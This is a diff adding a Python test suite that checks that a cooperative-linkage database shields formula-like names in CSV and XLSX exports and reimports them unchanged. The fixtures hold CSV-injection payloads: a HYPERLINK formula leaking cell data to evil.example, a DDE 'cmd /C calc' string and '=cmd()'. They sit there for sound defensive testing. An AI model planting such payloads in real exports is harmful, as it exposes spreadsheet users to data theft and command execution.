@@ -1,0 +1,132 @@
+"""Text that looks like a formula is stored as typed, leaves in every export as inert text, and
+comes back unchanged when that export is imported again."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import sqlalchemy as sa
+from hypothesis import given
+from hypothesis import strategies as st
+from sqlalchemy.engine import Engine
+
+from linkage.coverage import to_csv, to_xlsx
+from linkage.db import read_session
+from linkage.exchange import export_folder, import_path
+from linkage.exchange.values import shield, unshield
+from linkage.models import Buyer, Cooperative
+
+# What Excel and LibreOffice run when a cell starts with it (OWASP "CSV injection").
+RUNS_AS_FORMULA = ("=", "+", "-", "@", "\t", "\r")
+NAMES = {
+    "K1": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "K2": "+1+cmd|' /C calc'!A0",
+    "K3": "-2+3",
+    "K4": "@SUM(A1:A9)",
+    "K5": "''=two quotes",
+    "K6": "'HTX có dấu nháy",
+    "K7": 'HTX Nà Phặc <b>đậm</b> & "Quê"',
+}
+USER_TABLES = (
+    "digital_adoption",
+    "linkage_party",
+    "linkage",
+    "producer",
+    "raw_material_area",
+    "buyer",
+    "cooperative",
+    "province_key_product",
+)
+
+
+@given(st.text())
+def test_shielding_is_undone_exactly_and_leaves_nothing_a_spreadsheet_would_run(text: str) -> None:
+    shielded = shield(text)
+    assert not shielded.startswith(RUNS_AS_FORMULA)
+    assert unshield(shielded) == text
+
+
+def test_a_quote_typed_before_ordinary_text_is_kept() -> None:
+    assert unshield("'HTX") == "'HTX"
+    assert unshield("'") == "'"
+
+
+def _hostile_cooperatives(tmp_path: Path) -> Path:
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow(["code", "name", "commune_code"])
+    writer.writerows([code, name, "01849"] for code, name in NAMES.items())
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "cooperatives.csv").write_text(buffer.getvalue(), encoding="utf-8")
+    (folder / "buyers.csv").write_text("code,name,kind\n=B1,Đại lý -5%,trader\n", encoding="utf-8")
+    return folder
+
+
+def _stored_names(engine: Engine) -> dict[str, str]:
+    with read_session(engine) as session:
+        coops = {c.code: c.name for c in session.execute(sa.select(Cooperative)).scalars()}
+        buyers = {b.code: b.name for b in session.execute(sa.select(Buyer)).scalars()}
+    return {**coops, **buyers}
+
+
+def _empty(engine: Engine) -> None:
+    with engine.begin() as conn:
+        for table in USER_TABLES:
+            conn.execute(sa.text(f"DELETE FROM {table}"))
+
+
+def test_formula_like_names_are_stored_as_typed(engine: Engine, tmp_path: Path) -> None:
+    import_path(engine, _hostile_cooperatives(tmp_path))
+    typed = {**NAMES, "K5": "'=two quotes", "=B1": "Đại lý -5%"}  # K5: the first quote marks literal text
+    assert _stored_names(engine) == typed
+
+
+def test_the_csv_export_holds_no_cell_a_spreadsheet_would_run_and_reimports_as_typed(
+    engine: Engine, tmp_path: Path
+) -> None:
+    import_path(engine, _hostile_cooperatives(tmp_path))
+    with read_session(engine) as session:
+        export_folder(session, tmp_path / "out")
+    for path in (tmp_path / "out").glob("*.csv"):
+        cells = [c for row in csv.reader(path.open(encoding="utf-8-sig")) for c in row]
+        assert [c for c in cells if c.startswith(RUNS_AS_FORMULA)] == [], path.name
+    exported = (tmp_path / "out" / "cooperatives.csv").read_text(encoding="utf-8-sig")
+    assert "K4,'@SUM(A1:A9),01849" in exported
+    assert "K6,'HTX có dấu nháy,01849" in exported  # ordinary text after a quote: left alone
+    _empty(engine)
+    import_path(engine, tmp_path / "out")
+    assert _stored_names(engine) == {**NAMES, "K5": "'=two quotes", "=B1": "Đại lý -5%"}
+
+
+def test_the_workbook_export_holds_text_cells_only_and_reimports_as_typed(engine: Engine, tmp_path: Path) -> None:
+    import_path(engine, _hostile_cooperatives(tmp_path))
+    with read_session(engine) as session:
+        (book_path,) = export_folder(session, tmp_path / "x", "xlsx")
+    book = openpyxl.load_workbook(book_path)
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.value is not None:
+                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
+                    assert not str(cell.value).startswith(RUNS_AS_FORMULA), (sheet.title, cell.value)
+    _empty(engine)
+    import_path(engine, book_path)
+    assert _stored_names(engine) == {**NAMES, "K5": "'=two quotes", "=B1": "Đại lý -5%"}
+
+
+def test_coverage_downloads_shield_text_and_keep_numbers_as_numbers() -> None:
+    rows = pd.DataFrame(
+        [{"indicator": "communes_with_cooperative", "unit_code": "058", "unit_name": "=cmd()", "numerator": 3}]
+    )
+    text = to_csv(rows).decode("utf-8-sig")
+    assert text.splitlines()[1] == "communes_with_cooperative,058,'=cmd(),3"
+    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(rows)))
+    sheet = book.active
+    assert sheet is not None
+    assert [c.value for c in sheet[2]] == ["communes_with_cooperative", "058", "'=cmd()", 3]
+    assert sheet["D2"].data_type == "n"
